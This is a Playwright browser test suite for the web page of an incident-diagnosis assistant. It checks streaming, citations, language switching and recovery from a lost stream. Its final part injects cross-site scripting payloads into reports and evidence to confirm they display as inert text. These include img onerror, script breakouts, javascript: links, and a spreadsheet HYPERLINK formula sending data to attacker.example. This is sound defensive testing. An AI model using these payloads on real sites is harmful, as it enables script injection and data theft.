// The web page in a real browser against a running service with the offline demo model.
//
//   BASE_URL=http://127.0.0.1:9000 node page.mjs      (CHROMIUM: the browser, default /usr/bin/chromium)
//
// Prints `N passed, N failed`; the exit code is 0 only if nothing failed. No times are asserted, only what arrives.

import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { chromium } from "playwright-core";

const BASE = process.env.BASE_URL?.replace(/\/+$/, "");
const RUN_TIMEOUT_MS = 120_000;
const LOAD_TIMEOUT_MS = 20_000;
const ARGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"];

let passed = 0;
let failed = 0;

/** One expectation of a reader, checked. A failure is told and the next one still runs. */
async function check(name, act) {
  try {
    await act();
    passed += 1;
    console.log(`ok    ${name}`);
  } catch (error) {
    failed += 1;
    console.log(`FAIL  ${name}\n      ${String(error?.message ?? error).split("\n").slice(0, 4).join("\n      ")}`);
  }
}

function expect(truth, message) {
  if (!truth) throw new Error(message);
}

/** A page with its own storage that notes all that went wrong on it. */
async function open(browser, options = {}) {
  const context = await browser.newContext({ locale: "en-US", viewport: { width: 1280, height: 900 }, ...options });
  const page = await context.newPage();
  page.setDefaultTimeout(LOAD_TIMEOUT_MS);
  const faults = [];
  const posts = [];
  page.on("console", (m) => ["error", "warning"].includes(m.type()) && faults.push(`console ${m.type()}: ${m.text()}`));
  page.on("pageerror", (error) => faults.push(`exception: ${error.message}`));
  page.on("requestfailed", (r) => r.resourceType() !== "fetch" && faults.push(`not loaded: ${r.url()}`));
  page.on("request", (r) => r.method() === "POST" && posts.push(new URL(r.url()).pathname));
  await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", (e) => console.error(`CSP blocked ${e.violatedDirective} ${e.blockedURI}`));
  });
  const response = await page.goto(`${BASE}/`);
  await page.waitForSelector("#examples button");
  return { context, page, faults, posts, response };
}

/** Asks by keyboard and waits for the end; returns what kind of answer came and the row counts seen while it streamed. */
async function ask(page, query) {
  const before = await page.$("#run > article");
  await page.evaluate(() => {
    globalThis.__rows = [];
    const note = () => {
      const run = document.querySelector("#run > article");
      if (run?.dataset.phase === "STREAMING") globalThis.__rows.push(run.querySelectorAll(".timeline > li").length);
    };
    globalThis.__observer?.disconnect();
    globalThis.__observer = new MutationObserver(note);
    globalThis.__observer.observe(document.getElementById("run"), { childList: true, subtree: true });
  });
  await page.fill("#query", query);
  await page.press("#query", "Enter");
  await page.waitForFunction((old) => document.querySelector("#run > article") !== old, before);
  return ended(page);
}

async function ended(page) {
  const done = () => ["ENDED", "REFUSED", "UNKNOWN"].includes(document.querySelector("#run > article")?.dataset.phase ?? "");
  await page.waitForFunction(done, null, { timeout: RUN_TIMEOUT_MS });
  const seen = await page.evaluate(() => {
    const run = document.querySelector("#run > article");
    return { phase: run.dataset.phase, kind: run.dataset.kind, text: run.textContent, rows: globalThis.__rows ?? [] };
  });
  expect(seen.phase === "ENDED", `the run did not end but is ${seen.phase}: ${seen.text.slice(0, 300)}`);
  return seen;
}

function expectStages({ rows }) {
  const growth = [...new Set(rows)];
  expect(growth.length >= 3, `stages did not arrive one by one; row counts seen: ${rows.join(" ") || "none"}`);
  expect(growth.every((n, i) => i === 0 || n > growth[i - 1]), `the timeline lost rows: ${rows.join(" ")}`);
}

async function openEvidence(page) {
  await page.locator(".opens-evidence > summary").first().click();
  await page.waitForSelector(".opens-evidence[open] .evidence");
  return page.locator(".opens-evidence[open] .evidence").first().textContent();
}

async function diagnose(page, query, conclusion) {
  const run = await ask(page, query);
  expectStages(run);
  expect(run.kind === "DIAGNOSIS_REPORT", `expected a DIAGNOSIS_REPORT, got ${run.kind}: ${run.text.slice(0, 300)}`);
  expect((await page.locator(".verdict h3").first().textContent()) === conclusion, "the report shows no conclusion");
  expect((await page.locator(".analysis").count()) > 0, "the report shows no analyses");
}

async function english(browser) {
  const { context, page, faults, response } = await open(browser);
  await check("the page forbids everything but its own files", async () => {
    const policy = response.headers()["content-security-policy"] ?? "";
    expect(policy.includes("default-src 'none'") && !policy.includes("unsafe"), `the policy is: ${policy || "missing"}`);
    expect((await page.getAttribute("html", "lang")) === "en", "an English browser does not get English");
  });
  await check("an empty question is refused on the spot", async () => {
    await page.press("#query", "Enter");
    expect((await page.textContent("#ask-fault")) !== "", "no word about the empty question");
  });
  await check("an English diagnosis streams its stages and shows its report", () =>
    diagnose(page, "checkout 5xx since 06:05, why?", "Conclusion"));
  await check("an analysis opens its verified evidence", async () => {
    expect((await openEvidence(page)).length > 20, "the evidence is empty");
  });
  await check("the trace shows budget and calls", async () => {
    await page.locator(".trace > summary").click();
    await page.waitForSelector(".trace progress");
    expect((await page.locator(".trace progress").count()) === 5, "not five budget bars");
    expect((await page.locator(".trace tbody tr").count()) >= 3, "hardly any calls in the trace");
  });
  await check("a runbook question is answered with citations", async () => {
    const { kind } = await ask(page, "How do we escalate a payment incident?");
    expect(kind === "KNOWLEDGE_ANSWER", `got ${kind}`);
    expect((await page.locator(".statements .ref").count()) > 0, "no citation numbers");
    await openEvidence(page);
  });
  await check("a question about the assistant gets a plain reply, not called verified", async () => {
    const { kind } = await ask(page, "What can you do?");
    expect(kind === "SYSTEM_REPLY", `got ${kind}`);
    expect((await page.locator(".meta .badge").first().textContent()) === "Answered", "it is labelled as something else");
  });
  await check("the history lists the session and opens a run", async () => {
    await page.waitForFunction(() => document.querySelectorAll("#history li").length >= 3);
    await page.locator("#history a").last().click();
    const { kind } = await ended(page);
    expect(kind === "DIAGNOSIS_REPORT", `the oldest run opens as ${kind}`);
  });
  await check("a reload keeps the run that the address names", async () => {
    await page.reload();
    expect((await ended(page)).kind === "DIAGNOSIS_REPORT", "another run is shown");
  });
  await check("markup in a question stays text", async () => {
    await ask(page, "<img src=x onerror=alert(1)><script>alert(2)</script> What can you do?");
    expect((await page.textContent("#run h2")).includes("<script>"), "the question is not shown as it was written");
    expect((await page.locator("main img, main script, nav img").count()) === 0, "markup was parsed");
  });
  await check("nothing was blocked and the console is clean (English)", () => expect(faults.length === 0, faults.join("\n")));
  await context.close();
}

async function chinese(browser) {
  const phone = { locale: "zh-CN", viewport: { width: 360, height: 740 }, colorScheme: "dark" };
  const { context, page, faults } = await open(browser, phone);
  await check("a Chinese diagnosis on a phone", async () => {
    expect((await page.getAttribute("html", "lang")) === "zh-CN", "a Chinese browser does not get Chinese");
    await diagnose(page, "支付超时是怎么回事", "结论");
    await openEvidence(page);
  });
  await check("nothing is wider than the phone", async () => {
    const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    expect(over <= 0, `the page is ${over} px too wide`);
  });
  await check("the language can be changed and is remembered", async () => {
    await page.click("#language");
    expect((await page.textContent("#submit")) === "Ask", "the page did not change to English");
    await page.reload();
    await ended(page);
    expect((await page.getAttribute("html", "lang")) === "en", "the choice was forgotten");
  });
  await check("nothing was blocked and the console is clean (Chinese)", () => expect(faults.length === 0, faults.join("\n")));
  await context.close();
}

/** The run is real; only its stream is cut before `done`, as a lost network would. */
async function lostStream(browser) {
  const { context, page, posts } = await open(browser);
  await page.route("**/api/chat", async (route) => {
    const response = await route.fetch({ timeout: RUN_TIMEOUT_MS });
    const text = await response.text();
    await route.fulfill({ response, body: text.slice(0, text.indexOf("event: status")) });
  });
  await check("a stream that is lost is followed to its result without asking twice", async () => {
    const { kind } = await ask(page, "What can you do?");
    expect(kind === "SYSTEM_REPLY", `got ${kind}`);
    const asked = posts.filter((path) => path === "/api/chat").length;
    expect(asked === 1, `the question was posted ${asked} times`);
  });
  await context.close();
}

/** Texts that a log line, a row or a runbook may bring into a report. */
const HOSTILE = [
  "<img src=x onerror=\"globalThis.__executed=1\">",
  "</script><script>globalThis.__executed=2</script>",
  "![a](https://attacker.example/?q=SELECT+1) [b](javascript:globalThis.__executed=3)",
  "<iframe srcdoc='<script>parent.__executed=4</script>'></iframe><svg onload=globalThis.__executed=5>",
  "```mermaid\nA->>B: <img src=https://attacker.example/x onerror=alert(1)> $$\\text{<style>*{display:none}</style>}$$\n```",
  '=HYPERLINK("http://attacker.example/?"&A1,"ok")',
].join(" ");

/** `value` with every text that a model or a source wrote made hostile. */
function poisoned(value, key = "") {
  if (Array.isArray(value)) return value.map((item) => poisoned(item, key));
  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poisoned(v, k)]));
  const told = ["text", "excerpt", "sample", "message", "template", "title", "section", "missing_info", "caveats"];
  return typeof value === "string" && told.includes(key) ? `${value} ${HOSTILE}` : value;
}

/** The run is real; its report and its evidence hold what an attacker would have written. */
async function hostileReport(browser) {
  const { context, page, faults } = await open(browser);
  const asked = [];
  page.on("request", (r) => !r.url().startsWith(BASE) && asked.push(r.url()));
  page.on("dialog", (dialog) => { asked.push(`dialog: ${dialog.message()}`); return dialog.dismiss(); });
  await page.route("**/api/chat", async (route) => {
    const response = await route.fetch({ timeout: RUN_TIMEOUT_MS });
    const text = (await response.text()).replace(/(event: content\ndata: )(.*)/, (_, head, data) => head + JSON.stringify(poisoned(JSON.parse(data))));
    await route.fulfill({ response, body: text });
  });
  await page.route("**/evidence", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: poisoned(await response.json()) });
  });
  await check("markup in a report and its evidence is text: nothing runs, nothing is asked for", async () => {
    const { kind, text } = await ask(page, "checkout 5xx since 06:05, why?");
    expect(kind === "DIAGNOSIS_REPORT", `got ${kind}`);
    expect(text.includes("</script><script>") && text.includes("![a]("), "the report is not shown as it was written");
    expect((await openEvidence(page)).includes("<iframe srcdoc="), "the evidence is not shown as it was written");
    const made = await page.locator("main :is(img, script, iframe, svg[onload], style, a[href^='javascript'], a[href*='attacker'])").count();
    expect(made === 0, `${made} elements were made of text`);
    expect((await page.evaluate(() => globalThis.__executed)) === undefined, "a script ran");
    expect(asked.length === 0, asked.join("\n"));
    expect(faults.length === 0, faults.join("\n"));
  });
  await context.close();
}

async function main() {
  if (!BASE) throw new Error("set BASE_URL to the running service, for example http://127.0.0.1:9000");
  const profile = await mkdtemp(join(tmpdir(), "superbiz-browser-"));
  const executablePath = process.env.CHROMIUM || "/usr/bin/chromium";
  const browser = await chromium.launch({ executablePath, headless: true, args: ARGS, env: { ...process.env, HOME: profile } });
  try {
    for (const part of [english, chinese, lostStream, hostileReport]) {
      await part(browser).catch((error) => check(`${part.name}: the page opens`, () => { throw error; }));
    }
  } finally {
    await browser.close();
    await rm(profile, { recursive: true, force: true });
  }
}

await main().catch((error) => {
  failed += 1;
  console.error(`FAIL  ${error?.message ?? error}`);
});
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed === 0 ? 0 : 1);
